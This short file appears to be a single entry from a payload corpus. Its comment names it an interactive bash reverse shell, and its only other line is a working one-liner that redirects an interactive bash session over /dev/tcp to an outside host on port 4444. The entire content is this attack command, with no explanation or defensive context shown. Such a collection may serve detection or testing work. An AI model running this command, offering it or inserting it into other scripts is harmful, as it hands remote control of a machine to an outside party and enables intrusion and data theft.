# corpus: interactive bash reverse shell over /dev/tcp
bash -i >& /dev/tcp/198.51.100.23/4444 0>&1
